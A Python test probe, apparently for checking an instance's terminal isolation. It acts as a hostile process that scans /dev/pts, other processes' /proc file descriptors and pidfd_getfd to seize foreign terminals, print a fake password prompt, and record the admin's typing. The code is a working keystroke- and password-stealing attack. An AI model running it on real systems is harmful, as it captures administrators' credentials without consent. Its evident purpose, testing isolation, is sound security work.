#!/usr/bin/python3
"""A hostile process inside an instance (terminal.sh): tries, again and
again, to reach a terminal it did not make: every /dev/pts/N, every
descriptor of every other process through /proc/PID/fd/N, and the same
descriptors through pidfd_getfd().  What it reaches, it reads from (the
admin's typing) and writes a fake prompt to (the admin's screen).

Usage: tty-thief.py SECONDS MARKER STOPFILE
Prints one line per distinct outcome ("try TARGET: ERRNO", "OPENED TARGET",
"READ TARGET: BYTES"), first a positive control on a pty of its own, and
"done scans=N" at the end (when STOPFILE appears or SECONDS pass).
"""

import ctypes
import errno
import os
import select
import stat
import sys
import time

SYS_PIDFD_OPEN = 434
SYS_PIDFD_GETFD = 438

libc = ctypes.CDLL(None, use_errno=True)


def out(line):
    print(line, flush=True)


def ename(e):
    return errno.errorcode.get(e, str(e))


def is_tty_rdev(st):
    # pts (136-143), tty (4) and /dev/tty, /dev/ptmx (5).
    return stat.S_ISCHR(st.st_mode) and os.major(st.st_rdev) in (4, 5, *range(136, 144))


def ident(st):
    # Not st_rdev: two devpts instances both have a 136:0.
    return (st.st_dev, st.st_ino)


def getfd(pid, fd):
    pidfd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
    if pidfd < 0:
        return -ctypes.get_errno()
    got = libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0)
    e = ctypes.get_errno()
    os.close(pidfd)
    return got if got >= 0 else -e


def main():
    seconds, marker, stopfile = float(sys.argv[1]), sys.argv[2], sys.argv[3]
    me = os.getpid()
    seen = set()
    stolen = {}  # fd -> target
    stolen_keys = set()  # (st_dev, st_ino): one pty may have several names

    def once(line):
        if line not in seen:
            seen.add(line)
            out(line)

    def take(fd, target):
        key = ident(os.fstat(fd))
        if key == own or key in stolen_keys:
            os.close(fd)
            return
        stolen_keys.add(key)
        out("OPENED " + target)
        try:
            os.write(fd, ("\r\n" + marker + " Password: ").encode())
        except OSError as e:
            out("write %s: %s" % (target, ename(e.errno)))
        stolen[fd] = target

    # Positive control: a pty of its own, reopened by name and through
    # /proc/self/fd, written through the reopened slave and read back on
    # the master.
    master, slave = os.openpty()
    own_name = os.ttyname(slave)
    by_name = os.open(own_name, os.O_RDWR | os.O_NOCTTY)
    by_proc = os.open("/proc/%d/fd/%d" % (me, slave), os.O_RDWR | os.O_NOCTTY)
    os.write(by_name, b"by-name ")
    os.write(by_proc, b"by-proc\n")
    got = b""
    while b"by-proc" not in got and len(got) < 100:
        got += os.read(master, 100)
    os.close(by_name)
    os.close(by_proc)
    own = ident(os.fstat(slave))
    out("control: opened my own pty %s by name and through /proc/%d/fd/%d, read back %r"
        % (own_name, me, slave, got.strip()))
    out("ready")

    deadline = time.monotonic() + seconds
    scans = 0
    while time.monotonic() < deadline and not os.path.exists(stopfile):
        scans += 1
        for name in sorted(os.listdir("/dev/pts")):
            path = "/dev/pts/" + name
            if name == "ptmx" or path == own_name:
                continue
            try:
                fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            except OSError as e:
                once("try %s: %s" % (path, ename(e.errno)))
                continue
            take(fd, path)
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == me:
                continue
            try:
                fds = os.listdir("/proc/%s/fd" % pid)
            except OSError as e:
                once("list /proc/%s/fd: %s" % (pid, ename(e.errno)))
                continue
            for n in fds:
                path = "/proc/%s/fd/%s" % (pid, n)
                try:
                    st = os.stat(path)
                except OSError as e:
                    once("try %s: %s" % (path, ename(e.errno)))
                    if e.errno == errno.ENOENT:
                        continue
                else:
                    if not is_tty_rdev(st) or ident(st) == own:
                        continue
                    try:
                        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
                    except OSError as e:
                        once("try %s: %s" % (path, ename(e.errno)))
                    else:
                        take(fd, path)
                # Whatever stat said: the descriptor itself, stolen.
                fd = getfd(int(pid), int(n))
                if fd < 0:
                    once("getfd %s/%s: %s" % (pid, n, ename(-fd)))
                elif os.isatty(fd):
                    take(fd, "getfd %s/%s" % (pid, n))
                else:
                    os.close(fd)
        if stolen:
            ready, _, _ = select.select(list(stolen), [], [], 0.05)
            for fd in ready:
                try:
                    data = os.read(fd, 4096)
                except OSError:
                    continue
                if data:
                    out("READ %s: %r" % (stolen[fd], data))
        else:
            time.sleep(0.05)
    out("done scans=%d" % scans)


main()
